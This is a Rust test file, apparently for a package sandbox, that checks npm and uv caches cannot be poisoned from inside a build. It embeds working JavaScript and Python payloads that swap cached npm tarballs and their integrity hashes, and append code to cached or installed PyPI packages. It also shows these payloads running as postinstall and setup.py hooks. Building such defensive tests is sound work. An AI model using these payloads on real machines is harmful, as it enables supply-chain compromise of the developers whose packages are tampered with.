//! Caches that a package's code could write into, and another package be installed from (what an attack on npm's and uv's
//! own caches does is shown first): what runs in a build or a box finds none.

use std::path::Path;
use std::process::Command;

use serde_json::json;

use crate::Case;
use crate::oracle;
use crate::support::npm::{Registry, packed};
use crate::support::web::Web;
use crate::support::{Carrier, Home, Lane, run};

pub const CASES: &[Case] = &[
    // Between them, every way in which an engine makes images.
    Case::new("npm", npm).on(|lane| ["docker", "podman-rootless", "podman5", "nerdctl"].contains(&&*lane.name)),
    Case::new("pypi", pypi)
        .on(|lane| ["docker-buildkit", "podman", "podman5-rootless", "nerdctl"].contains(&&*lane.name)),
];

/// Puts another content, and its hash, into every npm cache that it finds, under the victim's own addresses. Prints how many.
const NPM: &str = r#"
const { execFileSync } = require("node:child_process"), fs = require("node:fs"), os = require("node:os");
const lib = [require("node:path").join(process.execPath, "../../lib/node_modules"), "/usr/share/nodejs", "/usr/local/lib/node_modules", "/usr/lib/node_modules"];
const places = lib.flatMap((dir) => [`${dir}/npm/node_modules/cacache`, `${dir}/cacache`]);
const cacache = require(places.find((dir) => fs.existsSync(dir)));
const homes = ["/root", os.homedir(), process.env.HOME, "/home/node", "/state", "/tmp", "/work", "/scripts"];
const caches = [process.env.npm_config_cache, ...homes.map((home) => `${home}/.npm`), "/work/cache", "/tmp/cache"];
const tarball = Buffer.from("TARBALL", "base64"), integrity = "INTEGRITY";
(async () => {
  let count = 0;
  for (const cache of new Set(caches.filter(Boolean).map((dir) => `${dir}/_cacache`))) {
    if (!fs.existsSync(cache)) continue;
    for (const { key, metadata } of Object.values(await cacache.ls(cache))) {
      if (!key.includes("mcp-well")) continue;
      let { data } = await cacache.get(cache, key);
      if (key.endsWith(".tgz")) data = tarball;
      else data = Buffer.from(data.toString().replace(/"integrity":"[^"]*"/g, `"integrity":"${integrity}"`));
      await cacache.put(cache, key, data, { metadata });
      count++;
    }
  }
  REPORT
})();
"#;

fn npm(lane: &'static Lane) {
    const WELL: &str = "mcp-well";
    let home = Home::warmed(lane, Carrier::Chosen, &[]);
    let mut registry = Registry::new();
    registry.publish(&home, json!({ "name": WELL, "version": "1.0.0" }), "console.log('clean')");
    let bad = json!({ "name": WELL, "version": "1.0.0", "bin": "cli.js" });
    let (tarball, integrity) = packed(&home, &bad, "console.log('poisoned')");
    let attack = NPM.replace("TARBALL", &base64(&tarball)).replace("INTEGRITY", &integrity);

    // npm itself, with a cache that both have.
    let cache = home.folder("npm-cache");
    let install = |name: &str| {
        let mut npm = Command::new("npm");
        npm.args(["install", "--prefer-offline", "--no-audit", "--no-fund", "--registry", &registry.web.url, WELL]);
        npm.env("npm_config_cache", &cache).current_dir(home.folder(name));
        run(npm, b"").ok();
        let mut program = Command::new("node");
        program.arg(home.dir.join(name).join("node_modules/mcp-well/cli.js"));
        run(program, b"").ok().text()
    };
    assert_eq!(install("before"), "clean\n");
    let mut node = Command::new("node");
    node.args(["-e", &attack.replace("REPORT", "console.log(count)")]).env("npm_config_cache", &cache);
    assert_eq!(run(node, b"").ok().text(), "2\n", "the description and the file");
    assert_eq!(install("after"), "poisoned\n");

    // The same as an install script that is allowed, and as a program.
    let built = attack.replace("REPORT", "fs.writeFileSync('count', String(count));");
    let program = format!(
        "if (process.env.npm_lifecycle_event) {{ {built} }} else {{ {} }}",
        attack.replace("REPORT", "console.log(fs.readFileSync(`${__dirname}/count`, 'utf8'), count)")
    );
    let manifest = json!({ "name": "anvil", "version": "1.0.0", "scripts": { "postinstall": "node cli.js" } });
    registry.publish(&home, manifest, &program);
    let url = format!("--registry={}", registry.web.url);
    registry.jitbox(&home, &["allow", "npm:anvil", &url, "--scripts", "anvil"]).ok();
    let done = registry.start(&home, &["anvil"]).ok();
    assert_eq!(done.text(), "0 0\n", "{}", done.words());
    let done = registry.start(&home, &[WELL]).ok();
    assert_eq!(done.text(), "clean\n", "{}", done.words());
    home.remove_boxes();
}

/// Adds a line to every copy of the victim that uv keeps, or has installed. Leaves how many in `count`.
const PYPI: &str = r#"
import glob, os
homes = ["/root", os.path.expanduser("~"), os.environ.get("HOME", "/"), "/state", "/tmp", "/work"]
caches = [os.environ.get("UV_CACHE_DIR"), "/work/cache", "/tmp/cache", *(home + "/.cache/uv" for home in homes)]
count = 0
for place in {*(f"{cache}/archive-v0/*/iniconfig" for cache in caches if cache), "/app/venv/lib/python3*/site-packages/iniconfig"}:
    for path in glob.glob(place + "/__init__.py"):
        try:
            with open(path, "a") as file:
                file.write("\nPOISONED = True\n")
            count += 1
        except OSError:
            pass
"#;

fn pypi(lane: &'static Lane) {
    const WELL: &str = "iniconfig==2.1.0";
    const TELL: &str = "import iniconfig; print(hasattr(iniconfig, 'POISONED'))";
    let home = Home::warmed(lane, Carrier::Chosen, &[]);

    // uv itself, with a cache that both have.
    let Some(uv) = oracle::uvx::uv() else { return };
    let cache = home.folder("uv-cache");
    let python = |folder: &Path| folder.join("venv/bin/python");
    let install = |name: &str| {
        let folder = home.folder(name);
        for words in [&["venv", "--quiet", "venv"][..], &["pip", "install", "--quiet", "--python", "venv", WELL]] {
            let mut command = uv.itself();
            command.args(words).env("UV_CACHE_DIR", &cache).current_dir(&folder);
            run(command, b"").ok();
        }
        let mut tell = Command::new(python(&folder));
        tell.args(["-c", TELL]);
        run(tell, b"").ok().text()
    };
    assert_eq!(install("before"), "False\n");
    let mut attack = Command::new("python3");
    attack.args(["-c", &format!("{PYPI}print(count)")]).env("UV_CACHE_DIR", &cache);
    assert_eq!(run(attack, b"").ok().text(), "1\n");
    assert_eq!(install("after"), "True\n");

    // The same as a project that is built, and as its program, beside what it is after.
    let web = Web::start();
    let repository = web.repository("anvil.git");
    repository.commit(&[
        (
            "pyproject.toml",
            "[build-system]\nrequires = ['setuptools>=70']\nbuild-backend = 'setuptools.build_meta'\n\
             [project]\nname = 'jitbox-anvil'\nversion = '1.0'\ndependencies = ['iniconfig==2.1.0']\n\
             [project.scripts]\njitbox-anvil = 'anvil:main'\n\
             [tool.setuptools]\npackages = ['anvil']\n[tool.setuptools.package-data]\nanvil = ['count']\n",
        ),
        ("setup.py", &format!("{PYPI}open('anvil/count', 'w').write(str(count))\nfrom setuptools import setup\nsetup()\n")),
        (
            "anvil/__init__.py",
            &format!(
                "import pathlib\n{PYPI}def main():\n    print(pathlib.Path(__file__).with_name('count').read_text(), count)\n"
            ),
        ),
    ]);
    let at = web.put("jitbox_anvil-1.0.tar.gz", repository.archive("jitbox_anvil-1.0"));
    let done = run(home.shim("uvx-safe", [&at]), b"").ok();
    assert_eq!(done.text(), "0 0\n", "{}", done.words());
    let done = run(home.shim("uvx-safe", ["--from", WELL, "python", "-c", TELL]), b"").ok();
    assert_eq!(done.text(), "False\n", "{}", done.words());
    home.remove_boxes();
}

fn base64(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}
